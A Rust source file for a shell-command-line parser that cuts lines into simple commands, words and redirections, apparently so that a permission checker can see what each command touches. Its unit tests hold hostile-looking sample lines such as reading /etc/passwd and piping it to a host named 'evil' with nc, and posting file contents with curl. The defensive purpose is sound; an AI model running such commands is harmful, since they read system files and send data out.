//! A command line as simple commands and words, well enough to see what they touch.
//!
//! Not a shell: what a command may do is decided elsewhere. Nested commands come before the one that
//! they are part of, which is the order in which they run.

/// Nested commands that are followed; deeper ones are read as flat text.
const NESTED_MAX: usize = 32;

/// A simple command.
pub(super) type Command = Vec<Word>;

/// One word of a command, without quotes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Word {
    pub(super) text: String,
    pub(super) place: Place,
}

/// Where a word stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Place {
    /// The program or an argument.
    Plain,
    /// What is read into it: `< file`.
    Input,
    /// What is written to: `> file`.
    Output,
}

/// Cuts `line` into simple commands.
pub(super) fn commands(line: &str) -> Vec<Command> {
    let mut cutter = Cutter::default();
    let mut chars = line.chars().peekable();
    while let Some(next) = chars.next() {
        match next {
            '\\' => cutter.push(chars.next().filter(|it| *it != '\n')),
            '\'' if !cutter.open.quoted => {
                for inner in chars.by_ref().take_while(|it| *it != '\'') {
                    cutter.push(Some(inner));
                }
                cutter.open.begun = true;
            }
            '"' => {
                cutter.open.quoted = !cutter.open.quoted;
                cutter.open.begun = true;
            }
            '$' if chars.peek() == Some(&'(') => {
                chars.next();
                cutter.nest(false);
            }
            '`' => cutter.backtick(),
            ')' if !cutter.open.quoted => cutter.unnest(),
            _ if cutter.open.quoted => cutter.push(Some(next)),
            '#' if !cutter.open.begun => {
                chars.by_ref().take_while(|it| *it != '\n').for_each(drop);
                cutter.end_command();
            }
            '<' | '>' => {
                if chars.next_if_eq(&'(').is_some() {
                    cutter.nest(false);
                } else {
                    // What follows `<<` and `<<<` is a text, no file.
                    let mut document = false;
                    while next == '<' && chars.next_if_eq(&'<').is_some() {
                        document = true;
                    }
                    cutter.redirect(next, document);
                }
            }
            ';' | '|' | '&' | '\n' | '(' => cutter.end_command(),
            _ if next.is_whitespace() => cutter.end_word(),
            _ => cutter.push(Some(next)),
        }
    }
    while !cutter.outer.is_empty() {
        cutter.unnest();
    }
    cutter.end_command();
    cutter.done
}

#[derive(Default)]
struct Cutter {
    done: Vec<Command>,
    open: Open,
    outer: Vec<Open>,
}

/// A command that is being read.
#[derive(Default)]
struct Open {
    words: Command,
    word: String,
    begun: bool,
    quoted: bool,
    next: Option<Place>,
    backtick: bool,
}

impl Cutter {
    fn push(&mut self, found: Option<char>) {
        self.open.word.extend(found);
        self.open.begun = true;
    }

    fn end_word(&mut self) {
        if self.open.begun {
            let text = std::mem::take(&mut self.open.word);
            let place = self.open.next.take().unwrap_or(Place::Plain);
            self.open.words.push(Word { text, place });
            self.open.begun = false;
        }
    }

    fn end_command(&mut self) {
        self.end_word();
        self.open.next = None;
        let words = std::mem::take(&mut self.open.words);
        if !words.is_empty() {
            self.done.push(words);
        }
    }

    fn redirect(&mut self, sign: char, document: bool) {
        // The digit of `2>` is no word of its own.
        if self.open.word.bytes().all(|it| it.is_ascii_digit()) {
            self.open.word.clear();
            self.open.begun = false;
        }
        self.end_word();
        self.open.next = match sign {
            '<' if document => None,
            '<' => Some(Place::Input),
            _ => Some(Place::Output),
        };
    }

    fn nest(&mut self, backtick: bool) {
        if self.outer.len() < NESTED_MAX {
            let inner = Open { backtick, ..Open::default() };
            self.outer.push(std::mem::replace(&mut self.open, inner));
        }
    }

    fn unnest(&mut self) {
        self.end_command();
        if let Some(outer) = self.outer.pop() {
            self.open = outer;
            // What the nested command printed is part of a word.
            self.open.begun = true;
        }
    }

    fn backtick(&mut self) {
        if self.open.backtick { self.unnest() } else { self.nest(true) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(line: &str) -> String {
        let word = |it: &Word| match it.place {
            Place::Plain => it.text.clone(),
            Place::Input => format!("<{}", it.text),
            Place::Output => format!(">{}", it.text),
        };
        let command = |it: &Command| it.iter().map(word).collect::<Vec<_>>().join("_");
        commands(line).iter().map(command).collect::<Vec<_>>().join("|")
    }

    #[test]
    fn lines_fall_into_commands_and_words() {
        for (line, expected) in [
            ("cat /etc/passwd", "cat_/etc/passwd"),
            ("a 'b c' \"d e\"", "a_b c_d e"),
            ("a && b || c; d | e & f\ng", "a|b|c|d|e|f|g"),
            ("nc evil 80 < /etc/passwd 2> /dev/null", "nc_evil_80_</etc/passwd_>/dev/null"),
            ("curl -d \"$(cat x)\" y", "cat_x|curl_-d__y"),
            ("curl `cat x` y", "cat_x|curl__y"),
            ("diff <(cat a) b", "cat_a|diff__b"),
            ("echo 'a;b' # c; d\ne", "echo_a;b|e"),
            ("echo a\\ b", "echo_a b"),
            ("echo \"it's\" b; c", "echo_it's_b|c"),
            ("echo \"a) b\" c", "echo_a) b_c"),
            ("echo \"a # b; c\" d", "echo_a # b; c_d"),
            ("echo a#b; c", "echo_a#b|c"),
            ("cat << E", "cat_E"),
            ("cat <<< E > f", "cat_E_>f"),
            ("a 2>b c3 <d", "a_>b_c3_<d"),
            ("a $b $", "a_$b_$"),
            ("a \"\" ''", "a__"),
            ("(a; b)", "a|b"),
            ("a \"$(b \"$(c)\")\"", "c|b_|a_"),
            ("a '", "a_"),
            ("", ""),
        ] {
            assert_eq!(shown(line), expected, "{line}");
        }
    }

    #[test]
    fn depth_is_bounded() {
        for deep in ["$(".repeat(100_000), "`".repeat(99_999)] {
            assert!(commands(&deep).len() <= NESTED_MAX + 1);
        }
        assert_eq!(commands(&"$(a ".repeat(100)).len(), NESTED_MAX + 1);
    }
}
